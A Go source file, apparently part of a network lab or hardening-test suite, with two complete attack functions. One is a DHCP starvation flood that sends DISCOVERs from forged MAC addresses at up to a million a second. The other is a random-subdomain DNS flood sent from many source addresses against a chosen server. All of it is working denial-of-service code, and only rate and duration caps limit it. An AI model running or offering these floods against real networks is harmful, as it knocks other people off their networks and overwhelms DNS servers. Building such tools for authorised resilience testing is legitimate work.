package lab

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"maps"
	"math/rand/v2"
	"net"
	"net/netip"
	"slices"
	"sync"
	"syscall"
	"time"

	"github.com/insomniacslk/dhcp/dhcpv4"
	"github.com/miekg/dns"
	"golang.org/x/net/ipv4"
	"golang.org/x/sys/unix"
)

// DHCPFlood sends DHCP DISCOVERs from forged hardware addresses, each
// used once, out of iface to the broadcast address, at rate a second for
// duration (a DHCP starvation attack, for the hardening tests). It
// writes how many it sent and at what rate to w.
func DHCPFlood(ctx context.Context, iface string, rate int, duration time.Duration, w io.Writer) error {
	if rate <= 0 || rate > 1_000_000 || duration <= 0 || duration > time.Minute {
		return fmt.Errorf("dhcp-flood: a rate of 1 to 1,000,000 a second for at most a minute")
	}
	lc := net.ListenConfig{Control: func(_, _ string, c syscall.RawConn) error {
		var serr error
		err := c.Control(func(fd uintptr) {
			if serr = unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_BROADCAST, 1); serr == nil {
				serr = unix.BindToDevice(int(fd), iface)
			}
		})
		if err != nil {
			return err
		}
		return serr
	}}
	pc, err := lc.ListenPacket(ctx, "udp4", "0.0.0.0:0")
	if err != nil {
		return fmt.Errorf("dhcp-flood on %s: %w", iface, err)
	}
	defer pc.Close()
	conn := ipv4.NewPacketConn(pc)
	m, err := dhcpv4.New(dhcpv4.WithMessageType(dhcpv4.MessageTypeDiscover), dhcpv4.WithHwAddr(net.HardwareAddr{2, 0, 0, 0, 0, 0}))
	if err != nil {
		return err
	}
	tmpl := m.ToBytes()
	to := &net.UDPAddr{IP: net.IPv4bcast, Port: dhcpv4.ServerPort}
	const batch = 64
	msgs := make([]ipv4.Message, batch)
	for i := range msgs {
		b := append([]byte(nil), tmpl...)
		msgs[i] = ipv4.Message{Buffers: [][]byte{b}, Addr: to}
	}
	seq := rand.Uint32()
	start := time.Now()
	end := start.Add(duration)
	sent := 0
	for now := start; now.Before(end) && ctx.Err() == nil; now = time.Now() {
		due := int(float64(rate) * now.Sub(start).Seconds())
		if due <= sent {
			time.Sleep(200 * time.Microsecond)
			continue
		}
		n := min(batch, due-sent)
		for i := range n {
			seq++
			b := msgs[i].Buffers[0]
			binary.BigEndian.PutUint32(b[4:8], seq)   // xid
			binary.BigEndian.PutUint32(b[30:34], seq) // chaddr: 02:xx + seq
			b[29] = byte(seq>>24 ^ 0x5a)
		}
		k, err := conn.WriteBatch(msgs[:n], 0)
		if err != nil && k == 0 {
			// The link's queue is full: count nothing, try again.
			time.Sleep(100 * time.Microsecond)
			continue
		}
		sent += k
	}
	took := time.Since(start)
	fmt.Fprintf(w, "sent=%d seconds=%.2f rate=%.0f\n", sent, took.Seconds(), float64(sent)/took.Seconds())
	return nil
}

// DNSFlood sends DNS queries for names nobody has asked before (so that
// each is forwarded), from each of sources in turn, to server at rate a
// second for duration, and counts the answers by result. It writes one
// line: sent=N answered=N and a count for each result code.
func DNSFlood(ctx context.Context, server netip.AddrPort, sources []netip.Addr, rate int, duration time.Duration, w io.Writer) error {
	if rate <= 0 || rate > 1_000_000 || duration <= 0 || duration > time.Minute || len(sources) == 0 || len(sources) > 1024 {
		return fmt.Errorf("dns-flood: a rate of 1 to 1,000,000 a second for at most a minute, from 1 to 1,024 sources")
	}
	var conns []*net.UDPConn
	defer func() {
		for _, c := range conns {
			c.Close()
		}
	}()
	var mu sync.Mutex
	rcodes := map[string]int{}
	answered := 0
	var wg sync.WaitGroup
	for _, src := range sources {
		c, err := net.DialUDP("udp", net.UDPAddrFromAddrPort(netip.AddrPortFrom(src, 0)), net.UDPAddrFromAddrPort(server))
		if err != nil {
			return fmt.Errorf("dns-flood from %s: %w", src, err)
		}
		conns = append(conns, c)
		wg.Go(func() {
			buf := make([]byte, 65535)
			for {
				n, err := c.Read(buf)
				if err != nil {
					if errors.Is(err, net.ErrClosed) {
						return
					}
					continue // ICMP errors show up as read errors
				}
				if n < 12 {
					continue
				}
				mu.Lock()
				answered++
				rcodes[dns.RcodeToString[int(buf[3]&0xf)]]++
				mu.Unlock()
			}
		})
	}
	q := new(dns.Msg)
	start := time.Now()
	end := start.Add(duration)
	sent := 0
	for now := start; now.Before(end) && ctx.Err() == nil; now = time.Now() {
		due := int(float64(rate) * now.Sub(start).Seconds())
		if due <= sent {
			time.Sleep(200 * time.Microsecond)
			continue
		}
		for ; sent < due; sent++ {
			q.SetQuestion(fmt.Sprintf("r%d-%d.example.test.", start.UnixNano()%1e6, sent), dns.TypeA)
			b, err := q.Pack()
			if err != nil {
				return err
			}
			conns[sent%len(conns)].Write(b)
		}
	}
	time.Sleep(3 * time.Second) // the last answers
	for _, c := range conns {
		c.Close()
	}
	wg.Wait()
	conns = nil
	mu.Lock()
	defer mu.Unlock()
	fmt.Fprintf(w, "sent=%d answered=%d", sent, answered)
	for _, k := range slices.Sorted(maps.Keys(rcodes)) {
		fmt.Fprintf(w, " %s=%d", k, rcodes[k])
	}
	fmt.Fprintln(w)
	return nil
}
